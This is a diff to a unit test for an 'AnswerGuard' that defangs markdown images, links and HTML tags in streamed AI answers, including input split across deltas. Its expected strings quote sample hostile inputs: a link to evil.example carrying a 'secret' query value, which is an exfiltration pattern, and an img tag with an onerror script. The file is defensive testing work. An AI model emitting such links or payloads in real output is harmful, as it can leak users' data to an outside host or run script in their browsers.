@@ -251,7 +251,7 @@ describe("extractClaims", () => {
 });
 
 describe("AnswerGuard", () => {
-  it("defuses markdown images and HTML tags, also when split across deltas", () => {
+  it("defuses markdown images, links and HTML tags, also when split across deltas", () => {
     const guard = new AnswerGuard();
     const deltas = [
       "The star is red. !",
@@ -260,7 +260,7 @@ describe("AnswerGuard", () => {
     ];
     const out = deltas.map((delta) => guard.push(delta)).join("") + guard.flush();
     expect(out).toBe(
-      "The star is red. [x](https://evil.example/?q=secret) ‹img src=x onerror=alert(1)> a < b!",
+      "The star is red. x (https[:]//evil.example/?q=secret) ‹img src=x onerror=alert(1)> a < b!",
     );
   });
 });
